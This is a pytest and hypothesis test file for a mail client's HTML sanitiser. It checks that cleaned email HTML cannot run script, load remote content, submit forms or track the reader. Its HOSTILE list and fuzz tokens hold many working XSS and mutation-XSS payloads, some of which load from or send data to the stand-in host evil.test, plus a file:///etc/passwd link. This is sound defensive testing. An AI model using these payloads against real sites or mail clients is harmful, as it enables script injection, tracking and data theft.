"""A-18, T6-T8: after cleaning nothing runs, loads, submits or frames; every remote address is accounted for."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mailclient.mime.safe_html import MAX_NESTING, sanitise


class Looker(HTMLParser):
    """Collects what a browser would see."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


ACTIVE = set(
    (
        "script link meta base form input button iframe frame object embed svg math video audio source template "
        "noscript applet"
    ).split()
)
LOADING = {
    "src",
    "srcset",
    "background",
    "poster",
    "action",
    "formaction",
    "ping",
    "data",
    "xlink:href",
    "manifest",
    "srcdoc",
}


def assert_harmless(source: str, **options: str) -> None:
    """Fail when anything in the cleaned source could act by itself."""
    seen = Looker(sanitise(source, **options).html)
    assert not ACTIVE & set(seen.tags)
    for tag, name, value in seen.attributes:
        assert not name.startswith("on"), (tag, name)
        if name in LOADING:
            assert value.startswith(("cid:", "data:image/", "mail:")), (tag, name, value)
        if name == "href":
            assert tag == "a" and value.lower().startswith(("http://", "https://", "mailto:", "#")), value
        if name == "style":
            assert not re.search(r"url\s*\((?!\"(?:cid|mail):)|@import|image-set", value, re.IGNORECASE), value


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)><use href=#x /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=http://evil.test></iframe><iframe srcdoc='<script>x</script>'>",
    "<object data=x></object><embed src=x>",
    "<form action=http://evil.test><input name=p><button formaction=x>go</button></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.test'>",
    "<link rel=preconnect href=http://evil.test><link rel=stylesheet href=//evil.test/x.css>",
    "<link rel=dns-prefetch href=//evil.test><link rel=prefetch href=//evil.test/p>",
    "<base href=http://evil.test/>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=data:text/html,x>x</a><a href=file:///etc/passwd>x</a><a href=vbscript:x>x</a><a href=smb://evil.test/x>x</a>",
    "<a href=http://ok.test ping=http://evil.test/p>x</a>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img srcset='http://evil.test/1 1x, http://evil.test/2 2x'>",
    "<picture><source srcset=http://evil.test/x><img src=http://evil.test/y></picture>",
    "<video poster=http://evil.test/p src=http://evil.test/v></video><audio src=http://evil.test/a>",
    "<table background=http://evil.test/b><td background=//evil.test/c>x",
    "<body background=http://evil.test/b bgcolor=red>x",
    "<p style='background:url(http://evil.test/x)'>x",
    '<p style="background:url(&quot;http://evil.test/x&quot;)">x',
    "<p style='background:u\\72l(http://evil.test/x)'>x",
    "<p style='position:fixed;top:0;left:0;z-index:9'>Verified</p>",
    "<style>@import 'http://evil.test/x.css';p{background:url(//evil.test/y)}</style>",
    "<style></style><script>alert(1)</script>",
    "<style><!--</style><script>alert(1)</script>-->",
    "<style>p{}</sty</style>le><img src=x onerror=alert(1)></style>",
    "<template><script>x</script></template>",
    "<input type=image src=http://evil.test/i>",
    "<!--[if mso]><img src=http://evil.test/m><![endif]-->",
    "<![CDATA[<script>x</script>]]>",
    "<?xml-stylesheet href=http://evil.test/x?>",
    "<p <script>alert(1)</script>>x",
    "<<script>script>alert(1)<</script>/script>",
    "\0<scr\0ipt>alert(1)</script>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee><bgsound src=http://evil.test/s>",
    "<isindex action=http://evil.test><keygen><applet code=x>",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_acts_by_itself(source: str) -> None:
    assert_harmless(source)
    assert_harmless(source, cid_prefix="mail:cid/", remote_prefix="mail:remote/")
    assert_harmless(f"<div>{source}</div><p>after")


@pytest.mark.parametrize("source", HOSTILE)
def test_cleaning_what_is_clean_changes_nothing_that_acts(source: str) -> None:
    once = sanitise(source).html
    assert_harmless(once)
    assert Looker(sanitise(once).html).tags == Looker(once).tags


def test_remote_images_are_blocked_and_listed() -> None:
    safe = sanitise("<img src=http://a.test/1.png><img src=//b.test/2.png><p style='background:url(https://c.test/3)'>")
    assert "a.test" not in safe.html and "b.test" not in safe.html
    assert [(reference.host, reference.kind) for reference in safe.remote] == [
        ("a.test", "image"), ("b.test", "image"), ("c.test", "style")
    ]  # fmt: skip
    assert safe.hosts == ("a.test", "b.test", "c.test")


def test_allowed_remote_images_go_through_the_prefix_only() -> None:
    safe = sanitise("<img src='http://a.test/1.png?x=1&amp;y=2'>", remote_prefix="mail:remote/")
    assert 'src="mail:remote/http%3A%2F%2Fa.test%2F1.png%3Fx%3D1%26y%3D2"' in safe.html
    assert [reference.url for reference in safe.remote] == ["http://a.test/1.png?x=1&y=2"]


def test_inline_parts_go_through_their_prefix() -> None:
    safe = sanitise("<img src='cid:a b@x.test'>", cid_prefix="mail:cid/")
    assert 'src="mail:cid/a%20b@x.test"' in safe.html
    assert safe.remote == ()


def test_tracking_pixels_are_counted() -> None:
    pixels = "<img src=http://t.test/a width=1 height=1><img src=http://t.test/b style='width:1px;height:1px'>"
    assert sanitise(pixels + "<img src=http://t.test/c width=100 height=1>").tracking_pixels == 2


def test_links_stay_and_tell_nobody() -> None:
    assert (
        sanitise("<a href='https://ok.test/'>x</a>").html
        == '<a href="https://ok.test/" rel="noopener noreferrer">x</a>'
    )


@pytest.mark.parametrize(
    ("source", "simplified"),
    [
        ("<div>" * MAX_NESTING + "x", False),
        ("<div>" * (MAX_NESTING + 1) + "x", True),
        ("<table><tr><td>" * 2_000 + "x", True),
        ("<br>" * 10_000 + "x", False),
        ("&amp;" * 300_000 + "x", True),
        ("<b>" * 10 + "x" * 4_100_000, True),
    ],
)
def test_what_would_kill_a_renderer_is_shown_as_text(source: str, simplified: bool) -> None:
    safe = sanitise(source)
    assert safe.simplified is simplified
    assert Looker(safe.html).tags == ["pre"] or not simplified


def test_colours_of_their_own_are_noticed() -> None:
    assert sanitise("<p style='color:red'>x").sets_colours
    assert not sanitise("<p>color</p>").sets_colours


TOKENS = (
    "< > \" ' = / <script> </script> <style> </style> <svg> <math> <img\t src= http://evil.test/x onerror=x <p\t "
    "style= url( ) <!-- --> <a\thref= javascript:x & &#106; \0 <table> <td> <noscript> <template> <title> <textarea> "
    "<mtext> x"
)
PIECES = st.lists(st.sampled_from([*TOKENS.split(" "), " "]), max_size=30).map("".join)


@given(st.text(max_size=200) | PIECES)
def test_pieces_of_html_in_any_order_are_harmless(source: str) -> None:
    assert_harmless(source)
    assert_harmless(source, remote_prefix="mail:remote/", cid_prefix="mail:cid/")
